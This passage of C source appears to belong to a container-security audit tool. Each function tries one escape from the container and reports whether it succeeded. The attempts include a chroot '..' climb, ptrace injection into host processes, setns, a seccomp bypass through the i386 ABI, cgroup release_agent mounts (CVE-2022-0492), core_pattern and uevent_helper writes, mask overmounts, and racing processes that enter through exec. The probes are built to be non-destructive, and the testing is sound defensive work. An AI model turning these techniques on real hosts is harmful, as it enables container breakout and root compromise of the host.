    if (n == 0) {
        blocked(name, "no process outside this container is visible");
        return;
    }
    char peers[256] = "", denied[256] = "";
    for (int i = 0; i < n; i++) {
        struct proc_info pi;
        proc_info(pids[i], &pi);
        for (int k = 0; k < 2; k++) {
            char base[64];
            snprintf(base, sizeof base, "/proc/%d/%s", pids[i], k == 0 ? "root" : "cwd");
            DIR *d = opendir(base);
            if (d == NULL) {
                size_t len = strlen(denied);
                if (k == 0)
                    snprintf(denied + len, sizeof denied - len, "%s%d(%s) %s", len ? ", " : "", pids[i], pi.comm,
                             en(errno));
                continue;
            }
            closedir(d);
            if (marker_below(base)) {
                escaped(name, "reached the host's filesystem through %s (pid %d, %s): the marker is there", base,
                        pids[i], pi.comm);
                return;
            }
            if (more_privileged(&pi)) {
                escaped(name, "opened %s of pid %d (%s), a process with more privilege than ours", base, pids[i],
                        pi.comm);
                return;
            }
            if (k == 0) {
                size_t len = strlen(peers);
                snprintf(peers + len, sizeof peers - len, "%s%d(%s)", len ? ", " : "", pids[i], pi.comm);
            }
        }
    }
    blocked(name, "%s%s%s%s%s", denied[0] ? "refused for " : "", denied, denied[0] && peers[0] ? "; " : "",
            peers[0] ? "reachable only peers of this pod: " : "", peers);
}

/* The classic chroot escape: chroot into a subdirectory while the working directory stays
 * above it, climb with "..", chroot("."). Under pivot_root the climb ends at the container's
 * root; under a bare chroot it reaches the host's. */
static int chroot_child(void *arg, char *msg, size_t size)
{
    (void)arg;
    if (chdir("/") < 0 || chroot("/etc") < 0) {
        snprintf(msg, size, "chroot refused (%s, without CAP_SYS_CHROOT)", en(errno));
        return errno ? errno : EPERM;
    }
    for (int i = 0; i < 128; i++)
        (void)!chdir("..");
    if (chroot(".") < 0) {
        snprintf(msg, size, "second chroot refused (%s)", en(errno));
        return errno;
    }
    struct stat st;
    if (stat("/", &st) < 0)
        return errno;
    int above = !same_inode(&st, &root_st);
    int marker = opt.marker != NULL && stat(opt.marker, &st) == 0;
    if (marker || above) {
        snprintf(msg, size, "climbed %s the container's root%s", above ? "above" : "to",
                 marker ? " and found the host's marker" : "");
        return 0;
    }
    snprintf(msg, size, "chroot is allowed, but .. stops at the container's root%s",
             opt.marker ? "; the host's marker is not there" : "");
    return -1000;
}

/* The chroot escape above, in a child (it changes the caller's root for good). */
static void a_chroot_escape(const char *name)
{
    char msg[480];
    int rc = in_child(chroot_child, NULL, msg, sizeof msg);
    if (rc == 0)
        escaped(name, "%s", msg);
    else
        blocked(name, "%s", msg[0] ? msg : en(rc));
}

/* A read-only volume (the one holding this binary) written to. */
static void a_write_ro_volume(const char *name)
{
    if (!is_read_only(self_dir)) {
        skipped(name, "%s is not a read-only mount", self_dir);
        return;
    }
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/.attack-write", self_dir);
    int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
    if (fd >= 0) {
        close(fd);
        unlink(path);
        escaped(name, "created a file in the read-only volume %s", self_dir);
    } else {
        blocked(name, "refused (%s)", en(errno));
    }
}

/* ---------------------------------------------------------------------------------------- */
/* Processes                                                                                */

/* Attaches to `pid` as a debugger would and stops it. PTRACE_SEIZE rather than ATTACH: the
 * permission check is the same, and a seized process that reaches execve meanwhile gets no
 * extra SIGTRAP, which would kill it once we let go. 0 on success, -1 with errno. */
static int trace_attach(int pid)
{
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return -1;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0) {
        int status;
        for (int t = 0; t < 200 && waitpid(pid, &status, __WALL | WNOHANG) == 0; t++)
            usleep(1000);
    }
    return 0;
}

static void trace_detach(int pid)
{
    (void)ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* PTRACE_ATTACH to a process outside the container: code injection into it. Peers of the
 * same pod with no more privilege are not counted (a shared PID namespace allows that). */
static void a_ptrace(const char *name)
{
    int pids[256];
    int n = foreign_pids(pids, 256);
    if (n == 0) {
        blocked(name, "no process outside this container is visible to attach to");
        return;
    }
    char denied[256] = "", peers[256] = "";
    for (int i = 0; i < n; i++) {
        struct proc_info pi;
        proc_info(pids[i], &pi);
        if (trace_attach(pids[i]) < 0) {
            size_t len = strlen(denied);
            snprintf(denied + len, sizeof denied - len, "%s%d(%s) %s", len ? ", " : "", pids[i], pi.comm, en(errno));
            continue;
        }
        char base[64];
        snprintf(base, sizeof base, "/proc/%d/root", pids[i]);
        int host = marker_below(base);
        trace_detach(pids[i]);
        if (host || more_privileged(&pi)) {
            escaped(name, "attached to pid %d (%s, CapPrm %llx)%s", pids[i], pi.comm, pi.cap_prm,
                    host ? ", whose root is the host's" : ", which has more privilege than ours");
            return;
        }
        size_t len = strlen(peers);
        snprintf(peers + len, sizeof peers - len, "%s%d(%s)", len ? ", " : "", pids[i], pi.comm);
    }
    blocked(name, "%s%s%s%s%s", denied[0] ? "refused for " : "", denied, denied[0] && peers[0] ? "; " : "",
            peers[0] ? "attached only to peers of this pod with no more privilege: " : "", peers);
}

/* setns(2) into a namespace of any visible process, our own included (each type; a child
 * tries them all and reports the first that works). */
static int setns_child(void *arg, char *msg, size_t size)
{
    (void)arg;
    static const char *types[] = {"mnt", "net", "uts", "ipc", "pid", "cgroup"};
    int pids[256];
    int n = list_pids(pids, 256), opened = 0, last = 0;
    for (int i = 0; i < n; i++) {
        for (size_t t = 0; t < sizeof types / sizeof types[0]; t++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/ns/%s", pids[i], types[t]);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0)
                continue;
            opened++;
            struct stat st;
            fstat(fd, &st);
            unsigned long long mine = own_ns(types[t]);
            if (setns(fd, 0) == 0) {
                snprintf(msg, size, "joined the %s namespace of pid %d (%s)", types[t], pids[i],
                         (unsigned long long)st.st_ino == mine ? "the container's own: the call is allowed"
                                                               : "a foreign one");
                close(fd);
                return 0;
            }
            last = errno;
            close(fd);
        }
    }
    if (opened == 0)
        snprintf(msg, size, "no namespace of any process could be opened");
    else
        snprintf(msg, size, "setns refused for %d namespaces of %d processes (%s, without CAP_SYS_ADMIN)", opened, n,
                 en(last));
    return last ? last : EPERM;
}

/* setns into anything /proc offers, in a child (a join is for good). */
static void a_setns(const char *name)
{
    char msg[480];
    int rc = in_child(setns_child, NULL, msg, sizeof msg);
    if (rc == 0)
        escaped(name, "%s", msg);
    else
        blocked(name, "%s", msg);
}

static int unshare_child(void *arg, char *msg, size_t size)
{
    int flags = *(int *)arg;
    (void)msg;
    (void)size;
    return unshare(flags) == 0 ? 0 : errno;
}

/* A user namespace of our own: full capabilities over it, the kernel's largest attack
 * surface for unprivileged code (the root of many escapes). */
static void a_unshare_user(const char *name)
{
    char msg[480];
    int flags = CLONE_NEWUSER;
    int rc = in_child(unshare_child, &flags, msg, sizeof msg);
    if (rc == 0)
        escaped(name, "made a user namespace of its own");
    else if (!refused(name, rc, "by the seccomp profile: a user namespace needs no capability"))
        blocked(name, "refused (%s)", en(rc));
}

/* A mount namespace of our own: the first step of most mount tricks. */
static void a_unshare_mount(const char *name)
{
    char msg[480];
    int flags = CLONE_NEWNS;
    int rc = in_child(unshare_child, &flags, msg, sizeof msg);
    if (rc == 0)
        escaped(name, "made a mount namespace of its own");
    else if (!refused(name, rc, "without CAP_SYS_ADMIN"))
        blocked(name, "refused (%s)", en(rc));
}

/* add_key through the 32-bit system call ABI (int 0x80). The keyring calls need no capability;
 * only the seccomp profile refuses them, and a filter written for x86_64 alone lets every i386
 * call through. */
#if defined(__x86_64__)
static long ia32_call(long nr, long a, long b, long c, long d, long e)
{
    long ret;
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(nr), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory", "r8", "r9", "r10", "r11");
    return ret;
}
#endif

static int ia32_child(void *arg, char *msg, size_t size)
{
    (void)arg;
#if defined(__x86_64__)
    /* i386 calls see 32-bit pointers: the arguments live below 4 GiB. */
    char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        return errno;
    strcpy(low, "user");
    strcpy(low + 16, "peapod-attack-ia32");
    strcpy(low + 64, "x");
    /* 286 is add_key and 288 keyctl in the i386 table. */
    long id = ia32_call(286, (long)(uintptr_t)low, (long)(uintptr_t)(low + 16), (long)(uintptr_t)(low + 64), 1,
                        -4 /* KEY_SPEC_USER_KEYRING */);
    if (id < 0)
        return (int)-id;
    ia32_call(288, 21 /* KEYCTL_INVALIDATE */, id, 0, 0, 0);
    snprintf(msg, size, "add_key through the i386 ABI (int 0x80) added key %ld to uid %d's user keyring", id, getuid());
    return 0;
#else
    (void)msg;
    (void)size;
    return ENOEXEC;
#endif
}

static void a_ia32_syscall(const char *name)
{
#if defined(__x86_64__)
    char msg[480];
    int rc = in_child(ia32_child, NULL, msg, sizeof msg);
    if (rc == 0)
        escaped(name, "%s", msg);
    else if (rc == -SIGSYS)
        blocked(name, "killed by SIGSYS (seccomp)");
    else if (rc < 0)
        skipped(name, "the kernel has no i386 ABI (signal %d)", -rc);
    else if (!refused(name, rc, "by a seccomp filter that covers the i386 ABI"))
        escaped(name, "add_key through the i386 ABI reached the keyring (%s)", en(rc));
#else
    skipped(name, "not an x86_64 machine");
#endif
}

/* userfaultfd without UFFD_USER_MODE_ONLY: stalls kernel page faults, a common primitive of
 * kernel exploits. */
static void a_userfaultfd(const char *name)
{
    int fd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    if (fd >= 0) {
        close(fd);
        escaped(name, "created a userfaultfd that also handles kernel-mode faults");
    } else if (!refused(name, errno, "without CAP_SYS_PTRACE")) {
        blocked(name, "refused (%s)", en(errno));
    }
}

/* ---------------------------------------------------------------------------------------- */
/* Kernel objects and global state                                                          */

static long bpf(int cmd, union bpf_attr *attr)
{
    return syscall(SYS_bpf, cmd, attr, sizeof *attr);
}

/* bpf(): maps and programs, a kprobe program being kernel tracing from the container. */
static void a_bpf(const char *name)
{
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 8;
    attr.max_entries = 1;
    int map = (int)bpf(BPF_MAP_CREATE, &attr);
    if (map < 0) {
        if (!refused(name, errno, "without CAP_BPF or CAP_SYS_ADMIN"))
            blocked(name, "BPF_MAP_CREATE refused (%s)", en(errno));
        return;
    }
    close(map);
    struct bpf_insn insns[2];
    memset(insns, 0, sizeof insns);
    insns[0].code = BPF_ALU64 | BPF_MOV | BPF_K;  /* r0 = 0 */
    insns[1].code = BPF_JMP | BPF_EXIT;
    memset(&attr, 0, sizeof attr);
    attr.prog_type = BPF_PROG_TYPE_KPROBE;
    attr.insn_cnt = 2;
    attr.insns = (uint64_t)(uintptr_t)insns;
    attr.license = (uint64_t)(uintptr_t)"GPL";
    int prog = (int)bpf(BPF_PROG_LOAD, &attr);
    int err = errno;
    if (prog >= 0)
        close(prog);
    escaped(name, "created a BPF map%s", prog >= 0 ? " and loaded a kprobe program" : "");
    (void)err;
}

/* A CPU-wide perf event: watches every process on the CPU, the host's included. */
static void a_perf_event(const char *name)
{
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.type = PERF_TYPE_SOFTWARE;
    attr.size = sizeof attr;
    attr.config = PERF_COUNT_SW_CPU_CLOCK;
    attr.disabled = 1;
    int fd = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, PERF_FLAG_FD_CLOEXEC);
    if (fd >= 0) {
        close(fd);
        escaped(name, "opened a perf event on all processes of CPU 0");
    } else if (errno == ENOENT || errno == EOPNOTSUPP) {
        skipped(name, "the kernel has no such perf event (%s)", en(errno));
    } else if (!refused(name, errno, "without CAP_PERFMON")) {
        blocked(name, "refused (%s)", en(errno));
    }
}

/* The kernel keyring of uid 0: keyrings have no namespace of their own, so a container's root
 * shares the host root's user keyring. */
static void a_keyring(const char *name)
{
    long id = syscall(SYS_add_key, "user", "peapod-attack-probe", "x", (size_t)1, -4 /* KEY_SPEC_USER_KEYRING */);
    if (id >= 0) {
        (void)syscall(SYS_keyctl, 21 /* KEYCTL_INVALIDATE */, id);
        escaped(name, "added a key to uid %d's user keyring, which the host's uid %d shares", getuid(), getuid());
    } else if (!refused(name, errno, "by the seccomp profile: the keyring calls need no capability")) {
        escaped(name, "add_key reached the keyring (%s)", en(errno));
    }
}

/* init_module with a 4-byte non-module: EPERM before parsing without CAP_SYS_MODULE. */
static void a_init_module(const char *name)
{
    static const char image[4] = {0};
    if (syscall(SYS_init_module, image, sizeof image, "") == 0) {
        escaped(name, "loaded a kernel module");
        return;
    }
    if (!refused(name, errno, "without CAP_SYS_MODULE"))
        escaped(name, "past the CAP_SYS_MODULE check (%s for a non-module): a real module would load", en(errno));
}

/* finit_module with a descriptor of our own binary (an executable, not a module). */
static void a_finit_module(const char *name)
{
    int fd = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        blocked(name, "cannot open a file to offer (%s)", en(errno));
        return;
    }
    long r = syscall(SYS_finit_module, fd, "", 0);
    int err = errno;
    close(fd);
    if (r == 0)
        escaped(name, "loaded a kernel module");
    else if (!refused(name, err, "without CAP_SYS_MODULE"))
        escaped(name, "past the CAP_SYS_MODULE check (%s for a non-module): a real module would load", en(err));
}

/* kexec_load with one segment too many: the kernel checks CAP_SYS_BOOT first. */
static void a_kexec_load(const char *name)
{
    long r = syscall(SYS_kexec_load, 0UL, 17UL /* KEXEC_SEGMENT_MAX + 1 */, NULL, 0UL);
    if (r == 0)
        escaped(name, "kexec_load accepted");
    else if (!refused(name, errno, "without CAP_SYS_BOOT"))
        escaped(name, "past the CAP_SYS_BOOT check (%s for a bad segment count): a real kernel would load", en(errno));
}

/* reboot(2) with CAD_OFF (disables Ctrl-Alt-Del: harmless if it went through). In a PID
 * namespace of its own the kernel answers EINVAL after the CAP_SYS_BOOT check; RESTART there
 * would end the pod's PID namespace. */
static void a_reboot(const char *name)
{
    long r = syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2, LINUX_REBOOT_CMD_CAD_OFF, NULL);
    if (r == 0)
        escaped(name, "reboot(2) reached the host (Ctrl-Alt-Del disabled)");
    else if (!refused(name, errno, "without CAP_SYS_BOOT"))
        escaped(name, "past the CAP_SYS_BOOT check (%s from the PID namespace's reboot): RESTART would kill the pod",
                en(errno));
}

/* swapon of a file without a swap signature: EPERM first without CAP_SYS_ADMIN. */
static void a_swapon(const char *name)
{
    char path[PATH_MAX];
    int made = 0;
    if (scratch[0]) {
        snprintf(path, sizeof path, "%s/swap", scratch);
        int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0600);
        if (fd >= 0) {
            static const char zero[4096];
            made = write(fd, zero, sizeof zero) == (ssize_t)sizeof zero;
            close(fd);
        }
    }
    if (!made)
        snprintf(path, sizeof path, "/proc/self/exe");
    int r = swapon(path, 0);
    int err = errno;
    if (r == 0)
        (void)swapoff(path);
    if (made)
        unlink(path);
    if (r == 0)
        escaped(name, "added swap to the host");
    else if (!refused(name, err, "without CAP_SYS_ADMIN"))
        escaped(name, "past the CAP_SYS_ADMIN check (%s for a file without a swap signature)", en(err));
}

/* The host's clock (CLOCK_REALTIME has no namespace): set to its current value. */
static void a_set_clock(const char *name)
{
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    if (clock_settime(CLOCK_REALTIME, &ts) == 0)
        escaped(name, "set the host's clock (to its current value)");
    else if (!refused(name, errno, "without CAP_SYS_TIME"))
        blocked(name, "refused (%s)", en(errno));
}

/* The hostname: the pod's own UTS namespace may be renamed only with CAP_SYS_ADMIN; only the
 * host's (a shared UTS namespace) would be an escape. */
static void a_hostname(const char *name)
{
    char host[256];
    if (gethostname(host, sizeof host) < 0)
        host[0] = '\0';
    if (sethostname(host, strlen(host)) < 0) {
        blocked(name, "sethostname refused (%s, without CAP_SYS_ADMIN)", en(errno));
        return;
    }
    unsigned long long h = host_ns("uts");
    if (h != 0 && own_ns("uts") == h)
        escaped(name, "set the host's hostname (its UTS namespace is the host's)");
    else
        blocked(name, "sethostname allowed, but in the pod's own UTS namespace only (%s)",
                h ? "not the host's" : "no --host-ns to compare");
}

/* The sysrq trigger: one write can crash or reboot the host ('h' only prints help). */
static void a_sysrq_trigger(const char *name)
{
    int fd = open("/proc/sysrq-trigger", O_WRONLY | O_CLOEXEC);
    if (fd < 0 && errno == ENOENT) {
        skipped(name, "this kernel has no /proc/sysrq-trigger");
        return;
    }
    if (fd < 0) {
        blocked(name, "open for writing refused (%s)", en(errno));
        return;
    }
    ssize_t w = write(fd, "h", 1);
    int err = errno;
    close(fd);
    if (w == 1)
        escaped(name, "wrote to /proc/sysrq-trigger");
    else
        blocked(name, "write refused (%s)", en(err));
}

/* Writes a file's current content back: any success shows the file is writable. */
static void write_back(const char *name, const char *path, const char *why)
{
    char value[512];
    if (read_file(path, value, sizeof value) < 0) {
        if (errno == ENOENT)
            skipped(name, "this kernel has no %s", path);
        else
            blocked(name, "cannot read %s (%s)", path, en(errno));
        return;
    }
    if (value[0] == '\0') {
        /* Never write anything but the current value. */
        blocked(name, "cannot read the current value of %s", path);
        return;
    }
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        blocked(name, "open %s for writing refused (%s)", path, en(errno));
        return;
    }
    ssize_t w = write(fd, value, strlen(value));
    int err = errno;
    close(fd);
    if (w >= 0)
        escaped(name, "wrote %s (%s)", path, why);
    else
        blocked(name, "write to %s refused (%s)", path, en(err));
}

/* kernel.core_pattern: a "|program" there runs as root on the host at the next crash. */
static void a_sysctl_core_pattern(const char *name)
{
    write_back(name, "/proc/sys/kernel/core_pattern", "a |program there runs as host root at any crash");
}

/* kernel.panic_on_oops: one host-wide setting, here a way to turn any oops into a panic. */
static void a_sysctl_panic_on_oops(const char *name)
{
    write_back(name, "/proc/sys/kernel/panic_on_oops", "a host-wide setting");
}

/* sysfs is the kernel's objects: uevent_helper runs a program as root; THP a host-wide knob. */
static void a_write_sysfs(const char *name)
{
    struct stat st;
    if (stat("/sys/kernel/uevent_helper", &st) == 0) {
        write_back(name, "/sys/kernel/uevent_helper", "its program runs as host root at each uevent");
        return;
    }
    char value[256], word[64];
    const char *thp = "/sys/kernel/mm/transparent_hugepage/enabled";
    if (read_file(thp, value, sizeof value) < 0) {
        skipped(name, "this kernel has neither uevent_helper nor transparent hugepages");
        return;
    }
    char *open_b = strchr(value, '['), *close_b = open_b ? strchr(open_b, ']') : NULL;
    if (!open_b || !close_b || close_b - open_b - 1 >= (long)sizeof word) {
        blocked(name, "cannot parse %s", thp);
        return;
    }
    snprintf(word, sizeof word, "%.*s", (int)(close_b - open_b - 1), open_b + 1);
    int fd = open(thp, O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
        blocked(name, "open %s for writing refused (%s)", thp, en(errno));
        return;
    }
    ssize_t w = write(fd, word, strlen(word));
    int err = errno;
    close(fd);
    if (w >= 0)
        escaped(name, "wrote %s (a host-wide setting)", thp);
    else
        blocked(name, "write to %s refused (%s)", thp, en(err));
}

/* A cgroup filesystem mounted writable in the container: moving itself to the top of the
 * visible hierarchy leaves its limits (and, without a cgroup namespace, reaches the host's). */
static void a_cgroup_escape(const char *name)
{
    char buf[65536], tried[512] = "";
    if (read_file("/proc/self/mountinfo", buf, sizeof buf) < 0) {
        blocked(name, "cannot read mountinfo (%s)", en(errno));
        return;
    }
    for (char *line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
        char mnt[PATH_MAX], fstype[32];
        char *sep = strstr(line, " - ");
        if (sep == NULL || sscanf(line, "%*s %*s %*s %*s %4095s", mnt) != 1 || sscanf(sep + 3, "%31s", fstype) != 1)
            continue;
        if (strcmp(fstype, "cgroup") != 0 && strcmp(fstype, "cgroup2") != 0)
            continue;
        char path[PATH_MAX + 32], pid[16];
        snprintf(path, sizeof path, "%s/cgroup.procs", mnt);
        snprintf(pid, sizeof pid, "%d", getpid());
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        ssize_t w = fd >= 0 ? write(fd, pid, strlen(pid)) : -1;
        int err = errno;
        if (fd >= 0)
            close(fd);
        if (w > 0) {
            escaped(name, "moved itself into %s, the top of the cgroup hierarchy it sees", mnt);
            return;
        }
        size_t len = strlen(tried);
        snprintf(tried + len, sizeof tried - len, "%s%s %s", len ? ", " : "", mnt, en(err));
        if (strlen(tried) > 400)
            break;
    }
    if (tried[0])
        blocked(name, "%s", tried);
    else
        blocked(name, "no cgroup filesystem is mounted in the container (mount-cgroup tries to mount one)");
}

/* ---------------------------------------------------------------------------------------- */
/* Mounts                                                                                   */

static void try_mount(const char *name, const char *source, const char *type, const char *data, const char *what)
{
    char mp[PATH_MAX];
    mount_point(mp, sizeof mp);
    if (mount(source, mp, type, 0, data) == 0) {
        char extra[256] = "";
        if (strcmp(type, "cgroup") == 0) {
            char ra[PATH_MAX + 16];
            struct stat st;
            snprintf(ra, sizeof ra, "%s/release_agent", mp);
            if (stat(ra, &st) == 0)
                snprintf(extra, sizeof extra, ": its release_agent runs as host root");
        }
        umount2(mp, MNT_DETACH);
        escaped(name, "mounted %s%s", what, extra);
    } else if (!refused(name, errno, "without CAP_SYS_ADMIN")) {
        blocked(name, "mount refused (%s)", en(errno));
    }
}

/* A filesystem of our choosing: CAP_SYS_ADMIN in the host's user namespace. */
static void a_mount_tmpfs(const char *name)
{
    try_mount(name, "tmpfs", "tmpfs", "size=1m", "a tmpfs");
}

/* A fresh procfs: none of the masks and read-only paths of the container's /proc. */
static void a_mount_proc(const char *name)
{
    try_mount(name, "proc", "proc", NULL, "a fresh procfs without masks");
}

/* A fresh, writable sysfs. */
static void a_mount_sysfs(const char *name)
{
    try_mount(name, "sysfs", "sysfs", NULL, "a writable sysfs");
}

/* A cgroup hierarchy (CVE-2022-0492: cgroup v1's release_agent runs as host root). */
static void a_mount_cgroup(const char *name)
{
    char buf[4096], controller[64] = "";
    if (read_file("/proc/self/cgroup", buf, sizeof buf) > 0) {
        for (char *line = buf; line && *line; line = strchr(line, '\n') ? strchr(line, '\n') + 1 : NULL) {
            char *a = strchr(line, ':'), *b = a ? strchr(a + 1, ':') : NULL;
            if (!a || !b || b == a + 1 || strncmp(a + 1, "name=", 5) == 0)
                continue;
            snprintf(controller, sizeof controller, "%.*s", (int)(b - a - 1), a + 1);
            break;
        }
    }
    if (controller[0]) {
        char what[128];
        snprintf(what, sizeof what, "the cgroup v1 %s hierarchy", controller);
        try_mount(name, "cgroup", "cgroup", controller, what);
    } else {
        try_mount(name, "cgroup2", "cgroup2", NULL, "a cgroup2 hierarchy");
    }
}

/* /proc/sys read-write again: it is a read-only bind in the container. */
static void a_remount_proc_sys(const char *name)
{
    if (!is_read_only("/proc/sys")) {
        escaped(name, "/proc/sys is not read-only at all");
        return;
    }
    if (mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND | kept_flags("/proc/sys"), NULL) == 0) {
        (void)mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | kept_flags("/proc/sys"), NULL);
        escaped(name, "remounted /proc/sys read-write");
    } else if (!refused(name, errno, "without CAP_SYS_ADMIN")) {
        blocked(name, "remount refused (%s)", en(errno));
    }
}

/* The read-only volume holding this binary, remounted read-write: the host's files. */
static void a_remount_volume(const char *name)
{
    if (!is_read_only(self_dir)) {
        skipped(name, "%s is not a read-only mount", self_dir);
        return;
    }
    unsigned long keep = kept_flags(self_dir);
    if (mount(NULL, self_dir, NULL, MS_REMOUNT | MS_BIND | keep, NULL) == 0) {
        (void)mount(NULL, self_dir, NULL, MS_REMOUNT | MS_BIND | MS_RDONLY | keep, NULL);
        escaped(name, "remounted the read-only volume %s read-write", self_dir);
    } else if (!refused(name, errno, "without CAP_SYS_ADMIN")) {
        blocked(name, "remount refused (%s)", en(errno));
    }
}

static const char *masked_mount(int want_file)
{
    static const char *paths[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug",
                                  "/proc/latency_stats", "/proc/acpi", "/proc/scsi", "/sys/firmware"};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        struct stat st;
        if (stat(paths[i], &st) == 0 && is_mount_point(paths[i]) && (!want_file || !S_ISDIR(st.st_mode)))
            return paths[i];
    }
    return NULL;
}

/* A mount of our own over a masked path (a real file of ours, or anything). */
static void a_overmount_mask(const char *name)
{
    const char *target = masked_mount(1);
    if (target == NULL) {
        skipped(name, "no masked file to cover");
        return;
    }
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/cover", scratch[0] ? scratch : "/tmp");
    int fd = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
    if (fd < 0) {
        snprintf(path, sizeof path, "/proc/self/exe");
    } else {
        close(fd);
    }
    if (mount(path, target, NULL, MS_BIND, NULL) == 0) {
        umount2(target, MNT_DETACH);
        escaped(name, "bind-mounted a file of its own over the masked %s", target);
    } else if (!refused(name, errno, "without CAP_SYS_ADMIN")) {
        blocked(name, "mount refused (%s)", en(errno));
    }
    if (fd >= 0)
        unlink(path);
}

/* The mask itself unmounted: the kernel's file bare again. */
static void a_umount_mask(const char *name)
{
    const char *target = masked_mount(0);
    if (target == NULL) {
        skipped(name, "no masked path to unmount");
        return;
    }
    if (umount2(target, MNT_DETACH) == 0)
        escaped(name, "unmounted the mask over %s", target);
    else if (!refused(name, errno, "without CAP_SYS_ADMIN"))
        blocked(name, "umount refused (%s)", en(errno));
}

/* ---------------------------------------------------------------------------------------- */
/* watch-exec: processes entering the container (`peapod exec`) before their execve          */

enum exe_state { EXE_GONE, EXE_HOST, EXE_CONTAINER, EXE_DENIED };

static enum exe_state exe_state(int pid, char *link, size_t size)
{
    char magic[64];
    snprintf(magic, sizeof magic, "/proc/%d/exe", pid);
    ssize_t n = readlink(magic, link, size - 1);
    if (n < 0) {
        link[0] = '\0';
        return errno == ENOENT || errno == ESRCH ? EXE_GONE : EXE_DENIED;
    }
    link[n] = '\0';
    int out = magic_outside_root(magic);
    if (out < 0)
        return errno == ENOENT || errno == ESRCH ? EXE_GONE : EXE_DENIED;
    return out ? EXE_HOST : EXE_CONTAINER;
}

/* What could be done to process `pid` while it still runs the host's binary: returns a
 * description of the first success (an escape), or "" when everything was refused. */
static void probe_entering(int pid, int attached, char *won, size_t size)
{
    char path[64], link[PATH_MAX];
    won[0] = '\0';
    if (attached) {
        exe_state(pid, link, sizeof link);
        snprintf(won, size, "attached with ptrace to pid %d while it ran the host's %s", pid, link);
        return;
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd >= 0) {
        close(fd);
        if (exe_state(pid, link, sizeof link) == EXE_HOST) {
            snprintf(won, size, "opened /proc/%d/mem of a process running the host's %s", pid, link);
            return;
        }
    }
    /* Its binary, while it is still the host's (opening a container's own binary for writing
     * proves nothing). The opened descriptor itself is checked: the process may have reached
     * its execve in between. Never O_TRUNC: opening for writing is the proof; nothing is
     * written. */
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    for (int k = 0; k < 2; k++) {
        if (k == 0 && exe_state(pid, link, sizeof link) != EXE_HOST)
            continue;
        fd = open(path, (k == 0 ? O_WRONLY : O_RDONLY) | O_CLOEXEC);
        if (fd < 0)
            continue;
        char self[64], opened[PATH_MAX];
        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        ssize_t n = readlink(self, opened, sizeof opened - 1);
        opened[n > 0 ? n : 0] = '\0';
        int host = fd_outside_root(fd, opened) == 1;
        close(fd);
        if (host) {
            snprintf(won, size, "opened the host's binary %s of pid %d for %s", opened, pid,
                     k == 0 ? "writing" : "reading (a write through it, once free, replaces it)");
            return;
        }
    }
    /* Its descriptors: before the close-on-exec sweep they are the runtime's. */
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    struct dirent *e;
    while (d && (e = readdir(d)) != NULL) {
        if (!is_pid_name(e->d_name))
            continue;
        char magic[96];
        snprintf(magic, sizeof magic, "/proc/%d/fd/%s", pid, e->d_name);
        if (magic_outside_root(magic) == 1) {
            readlink(magic, link, sizeof link - 1);
            snprintf(won, size, "reached the host's %s through fd %s of pid %d", link, e->d_name, pid);
            break;
        }
    }
    if (d)
        closedir(d);
}

/* Every process entering the container, attacked before its execve while it still runs the
 * runtime's binary with the runtime's privileges and descriptors. */
static void a_watch_exec(const char *name)
{
    int baseline[4096];
    int nb = list_pids(baseline, 4096), next = 0;
    for (int i = 0; i < nb; i++)
        if (baseline[i] > next)
            next = baseline[i];
    next++;
    static char handled[1 << 16];
    for (int i = 0; i < nb; i++)
        if (baseline[i] < (int)sizeof handled)
            handled[baseline[i]] = 1;

    int entered = 0, early = 0, denied_early = 0;
    char won[512] = "";
    /* The caller starts entering only now: a process that entered before the baseline would
     * be counted as one of the container's own. */
    printf("WATCHING\n");
    fflush(stdout);
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    for (unsigned long spin = 0;; spin++) {
        /* Predicted pids first: the next ones of our PID namespace, tried as fast as possible
         * with ptrace itself (ESRCH until the process exists). */
        for (int p = next; p < next + 4 && p < (int)sizeof handled; p++) {
            if (handled[p])
                continue;
            long r = trace_attach(p);
            if (r < 0 && errno == ESRCH)
                continue;
            handled[p] = 1;
            entered++;
            char link[PATH_MAX], got[512] = "";
            if (r == 0) {
                enum exe_state s = exe_state(p, link, sizeof link);
                if (s == EXE_HOST) {
                    early++;
